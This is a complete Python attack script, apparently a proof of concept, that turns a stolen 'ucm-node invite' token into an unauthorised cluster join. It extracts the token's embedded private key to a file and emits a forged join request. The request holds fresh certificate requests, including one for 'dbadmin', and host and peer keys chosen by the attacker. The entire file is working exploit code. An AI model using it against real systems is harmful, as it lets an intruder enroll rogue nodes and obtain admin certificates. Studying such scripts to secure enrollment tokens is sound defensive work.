#!/usr/bin/env python3
"""What a thief makes of a token of "ucm-node invite".

join_attack.py TOKEN KEYFILE HOSTKEY PEERKEY >REQUEST
writes the token's private key to KEYFILE and a request to join with these
two keys to standard output.
"""
import base64
import os
import struct
import subprocess
import sys


def unbundle(data):
    assert data[:5] == b"UCMB1"
    pieces, at = {}, 6
    for _ in range(data[5]):
        n = data[at]
        name = data[at + 1:at + 1 + n].decode()
        at += 1 + n
        (n,) = struct.unpack(">I", data[at:at + 4])
        pieces[name] = data[at + 4:at + 4 + n]
        at += 4 + n
    return pieces


def bundle(pieces):
    data = b"UCMB1" + bytes([len(pieces)])
    for name, value in pieces.items():
        data += bytes([len(name)]) + name.encode()
        data += struct.pack(">I", len(value)) + value
    return data


def csr():
    return subprocess.run(
        ["openssl", "req", "-new", "-newkey", "ec", "-pkeyopt",
         "ec_paramgen_curve:P-256", "-nodes", "-keyout", "/dev/null",
         "-subj", "/CN=dbadmin"], check=True, stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL).stdout


def main():
    token, keyfile, host_key, peer_key = sys.argv[1:]
    text = token.split(".", 1)[1]
    pieces = unbundle(base64.urlsafe_b64decode(text + "=" * (-len(text) % 4)))
    fd = os.open(keyfile, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    os.write(fd, pieces["key"])
    os.close(fd)
    sys.stdout.buffer.write(bundle({
        "server_csr": csr(), "replicator_csr": csr(), "client_csr": csr(),
        "host_key": host_key.encode(), "peer_key": peer_key.encode()}))


main()
